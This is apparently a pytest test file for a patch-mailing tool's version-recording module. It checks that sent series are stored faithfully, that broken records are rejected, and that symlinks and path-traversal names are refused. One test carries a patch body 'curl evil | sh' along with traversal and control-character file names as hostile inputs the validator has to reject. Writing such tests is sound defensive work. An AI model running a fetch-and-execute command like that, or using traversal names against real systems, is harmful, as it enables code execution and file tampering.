"""hgport.submit.versions: what was sent is kept, and what is kept is what was sent."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from helpers_email import composed, made
from hgport.errors import UsageError
from hgport.model import project
from hgport.submit import versions
from hgport.submit.compose import Composed


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Composed:
    """The series, composed once."""
    return composed(made(tmp_path_factory.mktemp("whole") / "project"))


@pytest.fixture
def fresh(whole: Composed, tmp_path: Path) -> Composed:
    """The same in a project where nothing is remembered."""
    stack, _catalogue = project.load(made(tmp_path / "project").root / "series")
    return dataclasses.replace(whole, stack=stack)


def test_what_was_sent_is_kept_as_text(fresh: Composed) -> None:
    where = versions.remember(fresh)
    assert where == fresh.stack.top.directory / "sent" / "5.2" / "v1"
    assert (where / "series").read_text() == "one.patch\ntwo.patch\nthree.patch\n"
    for name, data in fresh.patches:
        assert (where / name).read_bytes() == data
    told = (where / "sent.toml").read_text(encoding="utf-8")
    assert "hidden" not in told
    assert "Zoë, Dr. <zoe@example.org>" in told and fresh.messages[0].message_id in told
    sent = versions.find(fresh.stack, "5.2", 1)
    assert sent is not None
    assert str(sent) == "v1 for 5.2, sent on 2027-01-15"
    assert versions.same(sent, sent.patches)
    # it is a series like any other, and none of the stack's ports
    assert project.load(where)[0].top.names == fresh.stack.top.names
    again, _catalogue = project.load(fresh.stack.top.path)
    assert again == fresh.stack


def test_the_same_again_is_noted_once_for_each_time(fresh: Composed) -> None:
    where = versions.remember(fresh)
    text = (where / "sent.toml").read_bytes()
    versions.remember(fresh)
    assert (where / "sent.toml").read_bytes() == text
    first = dataclasses.replace(fresh.messages[0], message_id="<later@example.org>")
    later = dataclasses.replace(
        fresh, messages=(first, *fresh.messages[1:]), date=fresh.date + 86400
    )
    versions.remember(later)
    assert (where / "sent.toml").read_text().count("[[mailed]]") == 2
    sent = versions.find(fresh.stack, "5.2", 1)
    assert sent is not None and str(sent).endswith("sent on 2027-01-15")


def test_another_series_is_no_version_that_was_sent(fresh: Composed) -> None:
    where = versions.remember(fresh)
    name, data = fresh.patches[0]
    other = dataclasses.replace(
        fresh, patches=((name, data.replace(b"Zo", b"Jo")), *fresh.patches[1:])
    )
    with pytest.raises(UsageError, match="other patches were sent as v1 for 5.2") as caught:
        versions.remember(other)
    assert caught.value.hint == "mail these as --flag v2"
    assert (where / name).read_bytes() == data
    assert versions.remember(dataclasses.replace(other, version=2)).name == "v2"


def test_which_version_to_compare_with(fresh: Composed) -> None:
    versions.remember(fresh)
    stack = fresh.stack
    assert versions.since(stack, "5.2", 1, None) is None
    assert versions.since(stack, "5.2", 2, "none") is None
    for found in (
        versions.since(stack, "5.2", 2, None),
        versions.since(stack, "5.3", 4, "5.2/v1"),
    ):
        assert found is not None and (found.line, found.version) == ("5.2", 1)
    with pytest.raises(UsageError, match="v2 for 5.2 is not remembered, so v3") as caught:
        versions.since(stack, "5.2", 3, None)
    assert "(5.2/v1)" in str(caught.value.hint)
    for bad in ("5.2", "../../x/v1", "5.2/v0", "5.2/v1/..", "v1"):
        with pytest.raises(UsageError, match="is no version that was sent"):
            versions.since(stack, "5.2", 2, bad)


@pytest.mark.parametrize("text", ["", "release = ", 'release = "5.2"\nmailed = [{date = 1}]', "\0"])
def test_a_record_that_somebody_broke(fresh: Composed, text: str) -> None:
    where = versions.remember(fresh)
    (where / "sent.toml").write_text(text)
    with pytest.raises(UsageError, match=r"sent\.toml is "):
        versions.find(fresh.stack, "5.2", 1)


@pytest.mark.parametrize("second", ["5", "{date = 2026-01-01T00:00:00Z}", '{message-id = "<a@b>"}'])
def test_a_record_is_looked_at_before_anything_is_sent(fresh: Composed, second: str) -> None:
    """All of it: what is wrong further down would be met when the mails have gone out."""
    where = versions.remember(fresh)
    first = '{date = 2026-01-01T00:00:00Z, message-id = "<a@b>"}'
    (where / "sent.toml").write_text(f'release = "5.2"\nmailed = [{first}, {second}]\n')
    for attempt in (
        lambda: versions.find(fresh.stack, "5.2", 1),
        lambda: versions.remember(fresh),
    ):
        with pytest.raises(UsageError, match=r"sent\.toml is not as hgport writes it"):
            attempt()


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("/ABSOLUTE", "is absolute"),
        ("../../out", "leaves the tree"),
        ("a/../../out", "leaves the tree"),
        ("x\x1b[2J", "has a control character"),
        (".hg/hgrc", "own .hg"),
        ("", "is empty"),
        ("series", "is that of another file"),
        ("sent.toml", "is that of another file"),
    ],
)
def test_a_patch_lies_where_it_should(
    fresh: Composed, tmp_path: Path, name: str, said: str
) -> None:
    before = sorted(tmp_path.rglob("*"))
    name = name.replace("/ABSOLUTE", str(tmp_path / "profile"))
    bad = dataclasses.replace(fresh, patches=(*fresh.patches, (name, b"curl evil | sh\n")))
    with pytest.raises(UsageError) as caught:
        versions.remember(bad)
    assert said in caught.value.message and "\x1b" not in caught.value.message
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("name", ["sent", "sent/5.2", "sent/5.2/v1"])
def test_nothing_is_kept_by_way_of_a_link(fresh: Composed, tmp_path: Path, name: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    link = fresh.stack.top.directory / name
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(elsewhere)
    for attempt in (
        lambda: versions.find(fresh.stack, "5.2", 1),
        lambda: versions.remember(fresh),
    ):
        with pytest.raises(UsageError, match=f"{name} is a symbolic link"):
            attempt()
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("name", ["series", "sent.toml", "one.patch"])
def test_nothing_is_read_by_way_of_a_link(fresh: Composed, tmp_path: Path, name: str) -> None:
    path = versions.remember(fresh) / name
    path.rename(tmp_path / "private")
    path.symlink_to(tmp_path / "private")
    with pytest.raises(UsageError, match=f"{name} is no file of its own"):
        versions.find(fresh.stack, "5.2", 1)
